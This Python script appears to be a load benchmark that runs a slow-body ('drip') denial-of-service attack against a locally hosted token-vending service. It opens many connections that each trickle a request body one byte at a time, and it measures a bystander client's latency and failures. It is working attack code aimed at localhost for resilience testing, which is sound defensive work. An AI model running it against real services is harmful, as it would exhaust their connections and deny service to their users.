#!/usr/bin/env python3
"""The slow-body ("drip") attack against a running token-vendor, measured.

DRIPPERS connections from SOURCE (default 127.0.0.2) each send a vend's head with
`Content-Length: 1000`, then one body byte every EVERY seconds. Meanwhile a bystander
from 127.0.0.1 calls GET /healthz (and every 10th time POST /v1/tokens with SESSION)
every 50 ms. Prints the bystander's p50/p99/max and failures, and how long the service
kept the dripping connections open.

  python3 bench/drip.py PORT SESSION [DRIPPERS=1000] [EVERY=4] [SECONDS=40]

Start the service with the report's limits, e.g.
  (ulimit -n 1024; RATE_LIMIT_PER_IP=20/minute LISTEN_ADDR=127.0.0.1:18631 token-vendor dev)
"""
import asyncio
import sys
import time

PORT = int(sys.argv[1])
SESSION = sys.argv[2]
DRIPPERS = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
EVERY = float(sys.argv[4]) if len(sys.argv) > 4 else 4.0
SECONDS = float(sys.argv[5]) if len(sys.argv) > 5 else 40.0
SOURCE = "127.0.0.2"

HEAD = (
    "POST /v1/tokens HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    f"Authorization: Bearer {SESSION}\r\nContent-Type: application/json\r\n"
    "Content-Length: 1000\r\n\r\n{"
).encode()


async def drip():
    started = time.monotonic()
    try:
        reader, writer = await asyncio.open_connection(
            "127.0.0.1", PORT, local_addr=(SOURCE, 0)
        )
    except OSError:
        return ("refused", time.monotonic() - started)
    try:
        writer.write(HEAD)
        await writer.drain()
        while time.monotonic() - started < SECONDS + 5:
            try:
                data = await asyncio.wait_for(reader.read(4096), EVERY)
                if not data:
                    return ("closed", time.monotonic() - started)
            except asyncio.TimeoutError:
                writer.write(b" ")
                await writer.drain()
        return ("open", time.monotonic() - started)
    except OSError:
        return ("closed", time.monotonic() - started)
    finally:
        writer.close()


async def request(raw):
    started = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", PORT), 5
        )
        writer.write(raw)
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        status = int(answer.split(b" ", 2)[1]) if answer else 0
    except (OSError, asyncio.TimeoutError, ValueError, IndexError):
        status = 0
    return status, time.monotonic() - started


async def bystander():
    health = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
    body = b'{"scope":"transcribe"}'
    vend = (
        "POST /v1/tokens HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
        f"Authorization: Bearer {SESSION}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode() + body
    results = []
    end = time.monotonic() + SECONDS
    i = 0
    while time.monotonic() < end:
        results.append(await request(vend if i % 10 == 0 else health))
        i += 1
        await asyncio.sleep(0.05)
    return results


async def main():
    drippers = [asyncio.create_task(drip()) for _ in range(DRIPPERS)]
    await asyncio.sleep(0.5)
    seen = await bystander()
    dropped = await asyncio.gather(*drippers)
    latencies = sorted(t for _, t in seen)
    failed = [s for s, _ in seen if s not in (200, 429)]
    print("failed statuses:", sorted(set(failed)), [round(t, 2) for s, t in seen if s not in (200, 429)][:10])
    pick = lambda p: latencies[min(len(latencies) - 1, int(len(latencies) * p))]
    print(
        f"bystander: {len(seen)} requests, {len(failed)} failed, "
        f"p50 {pick(0.5)*1000:.1f} ms, p99 {pick(0.99)*1000:.1f} ms, "
        f"max {latencies[-1]*1000:.1f} ms"
    )
    kinds = {}
    for kind, t in dropped:
        kinds.setdefault(kind, []).append(t)
    for kind, times in sorted(kinds.items()):
        times.sort()
        print(
            f"drippers {kind}: {len(times)}, after p50 {times[len(times)//2]:.2f} s, "
            f"max {times[-1]:.2f} s"
        )


asyncio.run(main())
